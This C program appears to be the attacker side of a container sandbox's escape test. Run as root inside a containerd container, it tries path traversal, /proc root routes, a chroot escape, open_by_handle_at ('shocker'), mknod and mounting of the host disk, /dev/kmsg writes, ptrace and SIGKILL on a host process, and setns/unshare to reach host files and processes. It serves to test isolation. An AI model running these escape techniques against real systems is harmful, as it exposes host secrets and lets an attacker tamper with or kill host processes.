/* The adversary of sentry/tests/oci_containerd.rs: a statically linked program run as root (uid 0) inside a
 * container that containerd started, trying every route out of its bundle. It prints what it tried and what the
 * kernel (or the sentry) answered; the test judges from OUTSIDE whether anything got out: the secret never appears in
 * this output, the host file keeps its content and mtime, the host listeners accept nothing, the host canary is alive
 * and received no signal, the host's kernel log has no line of ours, the host's mount table is unchanged.
 *
 * usage: attack SECRET TARGET DIR CANARY_PID TCP_PORT UNIX_PATH ABSTRACT_NAME BLKDEV_MAJOR BLKDEV_MINOR HANDLE_HEX TOKEN
 *   SECRET, TARGET: host paths (outside the bundle) of a secret file to read and a file to change; DIR their directory
 *   CANARY_PID: a host process to signal and ptrace; TCP_PORT: a host loopback listener (127.0.0.1 and ::1)
 *   UNIX_PATH, ABSTRACT_NAME: host unix listeners (a path and an abstract name)
 *   BLKDEV_MAJOR:MINOR: the host block device holding SECRET (0:0 when not a block device)
 *   HANDLE_HEX: SECRET's file handle from name_to_handle_at on the host ("-" when unavailable): open_by_handle_at
 *   TOKEN: a unique string this program tries to get into the host's kernel log
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <stddef.h>
#include <string.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *secret, *target, *dir, *token, *abstract_name, *unix_path, *handle_hex;
static int canary, port;
static unsigned blk_major, blk_minor;

static void report(const char *what, long r) {
    if (r >= 0)
        printf("%s: ok\n", what);
    else
        printf("%s: refused %s\n", what, strerror(errno));
    fflush(stdout);
}

/* Reads a path and prints what it got (the secret, if the route works: the test looks for it in the output). */
static void try_read(const char *label, const char *path) {
    char buf[256] = {0};
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        printf("read %s (%s): refused %s\n", label, path, strerror(errno));
        return;
    }
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    printf("read %s (%s): got %zd bytes: %s\n", label, path, n, n > 0 ? buf : "");
    fflush(stdout);
}

/* Writes to a path (the test checks the host file from outside). */
static void try_write(const char *label, const char *path, int flags) {
    int fd = open(path, O_WRONLY | flags, 0644);
    if (fd < 0) {
        printf("write %s (%s): refused %s\n", label, path, strerror(errno));
        return;
    }
    ssize_t n = write(fd, "ESCAPED", 7);
    close(fd);
    printf("write %s (%s): wrote %zd bytes\n", label, path, n);
    fflush(stdout);
}

static char *join(const char *a, const char *b) {
    char *s = malloc(strlen(a) + strlen(b) + 1);
    strcpy(s, a);
    strcat(s, b);
    return s;
}

/* Every path-based route to SECRET and TARGET from where we stand now (run again after each privilege we gain). */
static void file_routes(const char *when) {
    char label[128];
    char dots[256] = "";
    for (int i = 0; i < 24; i++)
        strcat(dots, "../");
    const char *prefixes[] = {"", dots, "/proc/self/root", "/proc/1/root", "/proc/self/cwd/", "/proc/1/cwd/"};
    for (unsigned i = 0; i < sizeof prefixes / sizeof *prefixes; i++) {
        const char *p = prefixes[i];
        const char *sep = (p[0] && p[strlen(p) - 1] == '/') ? secret + 1 : secret;
        const char *tsep = (p[0] && p[strlen(p) - 1] == '/') ? target + 1 : target;
        snprintf(label, sizeof label, "%s prefix %u", when, i);
        try_read(label, join(p, sep));
        try_write(label, join(p, tsep), O_TRUNC);
    }
    /* A new file next to them, and the canary's root (a host process: its /proc root is the host's /). */
    char path[512];
    snprintf(path, sizeof path, "%s/planted", dir);
    snprintf(label, sizeof label, "%s create", when);
    try_write(label, path, O_CREAT);
    snprintf(path, sizeof path, "/proc/%d/root%s", canary, secret);
    snprintf(label, sizeof label, "%s canary root", when);
    try_read(label, path);
    snprintf(path, sizeof path, "/proc/%d/root%s", canary, target);
    try_write(label, path, O_TRUNC);
    /* Symlinks resolved by whoever opens them. */
    snprintf(path, sizeof path, "/tmp/link-%s", when);
    for (char *c = path + 5; *c; c++)
        if (*c == ' ')
            *c = '_';
    unlink(path);
    if (symlink(secret, path) == 0) {
        snprintf(label, sizeof label, "%s symlink", when);
        try_read(label, path);
    }
}

/* The classic chroot escape: chroot into a subdirectory while keeping a cwd outside it, then walk up. */
static void chroot_escape(void) {
    mkdir("/tmp/jail", 0755);
    int fd = open("/", O_RDONLY | O_DIRECTORY);
    long r = chroot("/tmp/jail");
    report("chroot /tmp/jail", r);
    if (r == 0) {
        if (fd >= 0 && fchdir(fd) == 0) {
            for (int i = 0; i < 64; i++)
                if (chdir("..") != 0)
                    break;
            report("chroot . after walking up", chroot("."));
            file_routes("after chroot escape");
        }
    }
    if (fd >= 0)
        close(fd);
}

/* open_by_handle_at ("shocker"): a handle of the host's SECRET, resolved on the rootfs's filesystem. */
static void handle_attack(void) {
    if (strcmp(handle_hex, "-") == 0) {
        printf("open_by_handle_at: no handle from the host\n");
        return;
    }
    size_t n = strlen(handle_hex) / 2;
    unsigned char *raw = calloc(1, n + 16);
    for (size_t i = 0; i < n; i++)
        sscanf(handle_hex + 2 * i, "%2hhx", &raw[i]);
    /* handle_hex is struct file_handle as the host got it: handle_bytes (u32), handle_type (i32), f_handle. */
    int mount_fd = open("/", O_RDONLY | O_DIRECTORY);
    for (int flags = O_RDONLY; flags <= O_RDWR; flags += O_RDWR) {
        int fd = syscall(SYS_open_by_handle_at, mount_fd, raw, flags);
        if (fd < 0) {
            printf("open_by_handle_at flags %d: refused %s\n", flags, strerror(errno));
            continue;
        }
        char buf[256] = {0};
        ssize_t got = pread(fd, buf, sizeof buf - 1, 0);
        printf("open_by_handle_at flags %d: got %zd bytes: %s\n", flags, got, got > 0 ? buf : "");
        if (flags == O_RDWR)
            printf("open_by_handle_at write: %zd\n", pwrite(fd, "ESCAPED", 7, 0));
        close(fd);
    }
    fflush(stdout);
}

/* Device nodes: the host's block device (read its superblock, mount it), /dev/kmsg (write into the host's log). */
static void device_attacks(void) {
    char line[512];
    if (blk_major || blk_minor) {
        dev_t dev = makedev(blk_major, blk_minor);
        const char *nodes[] = {"/tmp/blk", "/dev/blk"};
        for (int i = 0; i < 2; i++) {
            unlink(nodes[i]);
            snprintf(line, sizeof line, "mknod %s b %u:%u", nodes[i], blk_major, blk_minor);
            report(line, mknod(nodes[i], S_IFBLK | 0600, dev));
        }
        /* Through the node we made, and through whatever the runtime put in /dev. */
        const char *reads[] = {"/tmp/blk", "/dev/blk", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/root"};
        for (unsigned i = 0; i < sizeof reads / sizeof *reads; i++) {
            int fd = open(reads[i], O_RDONLY);
            if (fd < 0) {
                printf("open %s: refused %s\n", reads[i], strerror(errno));
                continue;
            }
            unsigned char buf[64];
            ssize_t n = pread(fd, buf, sizeof buf, 1024);
            printf("read %s at 1024: %zd bytes: ", reads[i], n);
            for (ssize_t k = 0; k < n; k++)
                printf("%02x", buf[k]);
            printf("\n");
            close(fd);
        }
        mkdir("/tmp/mnt", 0755);
        const char *fstypes[] = {"ext4", "xfs", "btrfs"};
        for (int i = 0; i < 3; i++) {
            snprintf(line, sizeof line, "mount /tmp/blk as %s", fstypes[i]);
            long r = mount("/tmp/blk", "/tmp/mnt", fstypes[i], MS_RDONLY, NULL);
            report(line, r);
            if (r == 0) {
                snprintf(line, sizeof line, "/tmp/mnt%s", secret);
                try_read("mounted host disk", line);
                umount("/tmp/mnt");
            }
        }
    }
    unlink("/tmp/kmsg");
    report("mknod /tmp/kmsg c 1:11", mknod("/tmp/kmsg", S_IFCHR | 0600, makedev(1, 11)));
    const char *kmsgs[] = {"/tmp/kmsg", "/dev/kmsg"};
    for (int i = 0; i < 2; i++) {
        int fd = open(kmsgs[i], O_WRONLY);
        if (fd < 0) {
            printf("open %s: refused %s\n", kmsgs[i], strerror(errno));
            continue;
        }
        snprintf(line, sizeof line, "capvisor-oci-escape %s via %s\n", token, kmsgs[i]);
        report(kmsgs[i], write(fd, line, strlen(line)));
        close(fd);
    }
    /* /dev/mem and /dev/port are never for a container: report only (the kernel's strict devmem guards them too). */
    unlink("/tmp/mem");
    report("mknod /tmp/mem c 1:1", mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1)));
    report("open /tmp/mem", open("/tmp/mem", O_RDONLY));
}

/* Host listeners: loopback TCP on both families, a unix socket by path and an abstract one. */
static void network_attacks(void) {
    char label[160];
    struct sockaddr_in a4 = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, "127.0.0.1", &a4.sin_addr);
    struct sockaddr_in6 a6 = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
    inet_pton(AF_INET6, "::1", &a6.sin6_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    snprintf(label, sizeof label, "connect 127.0.0.1:%d", port);
    long r = s < 0 ? -1 : connect(s, (struct sockaddr *)&a4, sizeof a4);
    report(label, r);
    if (r == 0)
        (void)!write(s, "x", 1);
    if (s >= 0)
        close(s);
    s = socket(AF_INET6, SOCK_STREAM, 0);
    snprintf(label, sizeof label, "connect [::1]:%d", port);
    report(label, s < 0 ? -1 : connect(s, (struct sockaddr *)&a6, sizeof a6));
    if (s >= 0)
        close(s);
    struct sockaddr_un un = {.sun_family = AF_UNIX};
    snprintf(un.sun_path, sizeof un.sun_path, "%s", unix_path);
    s = socket(AF_UNIX, SOCK_STREAM, 0);
    snprintf(label, sizeof label, "connect unix %s", unix_path);
    report(label, s < 0 ? -1 : connect(s, (struct sockaddr *)&un, sizeof un));
    if (s >= 0)
        close(s);
    struct sockaddr_un ab = {.sun_family = AF_UNIX};
    size_t len = strlen(abstract_name);
    memcpy(ab.sun_path + 1, abstract_name, len);
    s = socket(AF_UNIX, SOCK_STREAM, 0);
    snprintf(label, sizeof label, "connect abstract @%s", abstract_name);
    report(label, s < 0 ? -1 : connect(s, (struct sockaddr *)&ab, offsetof(struct sockaddr_un, sun_path) + 1 + len));
    if (s >= 0)
        close(s);
}

/* The host canary: signals, ptrace (a successful attach detaches with SIGKILL: the test sees the canary die). */
static void process_attacks(void) {
    char label[128];
    snprintf(label, sizeof label, "kill(%d, SIGKILL)", canary);
    report(label, kill(canary, SIGKILL));
    snprintf(label, sizeof label, "kill(%d, SIGURG)", canary);
    report(label, kill(canary, SIGURG));
    /* Harmless to every process if it did get out (SIGURG and SIGWINCH are ignored by default); the canary logs them. */
    report("kill(-1, SIGURG)", kill(-1, SIGURG));
    report("kill(-1, SIGWINCH)", kill(-1, SIGWINCH));
    long r = ptrace(PTRACE_ATTACH, canary, 0, 0);
    snprintf(label, sizeof label, "ptrace(ATTACH, %d)", canary);
    report(label, r);
    if (r == 0) {
        waitpid(canary, NULL, __WALL);
        ptrace(PTRACE_DETACH, canary, 0, SIGKILL);
    }
    r = ptrace(PTRACE_SEIZE, canary, 0, 0);
    snprintf(label, sizeof label, "ptrace(SEIZE, %d)", canary);
    report(label, r);
    if (r == 0) {
        ptrace(PTRACE_INTERRUPT, canary, 0, 0);
        waitpid(canary, NULL, __WALL);
        ptrace(PTRACE_DETACH, canary, 0, SIGKILL);
    }
    snprintf(label, sizeof label, "process_vm_writev(%d)", canary);
    char one = 0;
    struct iovec local = {&one, 1}, remote = {(void *)0x1000, 1};
    /* EFAULT would mean the canary was reached (the address is bogus); ESRCH or EPERM that it was not. */
    report(label, syscall(SYS_process_vm_writev, canary, &local, 1, &remote, 1, 0));
    snprintf(label, sizeof label, "pidfd_open(%d)", canary);
    long pfd = syscall(SYS_pidfd_open, canary, 0);
    report(label, pfd);
    if (pfd >= 0)
        report("pidfd_send_signal SIGKILL", syscall(SYS_pidfd_send_signal, (int)pfd, SIGKILL, NULL, 0));
}

/* Privilege: namespaces of our own, other processes' namespaces, mounts; after each success, the file routes again. */
static void privilege_attacks(void) {
    char path[128];
    report("mount tmpfs /tmp/mnt2", (mkdir("/tmp/mnt2", 0755), mount("none", "/tmp/mnt2", "tmpfs", 0, NULL)));
    report("mount proc /tmp/mnt2", mount("proc", "/tmp/mnt2", "proc", 0, NULL));
    const char *nss[] = {"mnt", "pid", "net", "user", "cgroup"};
    for (int i = 0; i < 5; i++) {
        const int pids[] = {1, canary};
        for (int j = 0; j < 2; j++) {
            snprintf(path, sizeof path, "/proc/%d/ns/%s", pids[j], nss[i]);
            int fd = open(path, O_RDONLY);
            if (fd < 0) {
                printf("open %s: refused %s\n", path, strerror(errno));
                continue;
            }
            long r = setns(fd, 0);
            snprintf(path, sizeof path, "setns /proc/%d/ns/%s", pids[j], nss[i]);
            report(path, r);
            close(fd);
            if (r == 0)
                file_routes(path);
        }
    }
    report("init_module", syscall(SYS_init_module, NULL, 0, ""));
    report("bpf", syscall(SYS_bpf, 0, NULL, 0));
    report("io_uring_setup", syscall(SYS_io_uring_setup, 1, NULL));
    report("keyctl (join session)", syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, NULL));
    /* Last: a user namespace of our own (full capabilities inside it), then a mount namespace and the routes again. */
    long r = unshare(CLONE_NEWUSER);
    report("unshare(CLONE_NEWUSER)", r);
    r = unshare(CLONE_NEWNS);
    report("unshare(CLONE_NEWNS)", r);
    if (r == 0) {
        report("mount --bind / /tmp/mnt2", mount("/", "/tmp/mnt2", NULL, MS_BIND | MS_REC, NULL));
        file_routes("in new namespaces");
        chroot_escape();
    }
}

int main(int argc, char **argv) {
    if (argc != 12) {
        fprintf(stderr, "usage: see the top of oci_attack.c (got %d arguments)\n", argc - 1);
        return 2;
    }
    secret = argv[1];
    target = argv[2];
    dir = argv[3];
    canary = atoi(argv[4]);
    port = atoi(argv[5]);
    unix_path = argv[6];
    abstract_name = argv[7];
    blk_major = (unsigned)atoi(argv[8]);
    blk_minor = (unsigned)atoi(argv[9]);
    handle_hex = argv[10];
    token = argv[11];
    setvbuf(stdout, NULL, _IOLBF, 0);
    signal(SIGPIPE, SIG_IGN); /* a refused socket must not end the attack early */
    printf("attack: uid %d in %s\n", getuid(), getcwd((char[256]){0}, 256));
    file_routes("initial");
    handle_attack();
    device_attacks();
    network_attacks();
    process_attacks();
    privilege_attacks();
    chroot_escape();
    printf("attack: done\n");
    return 0;
}
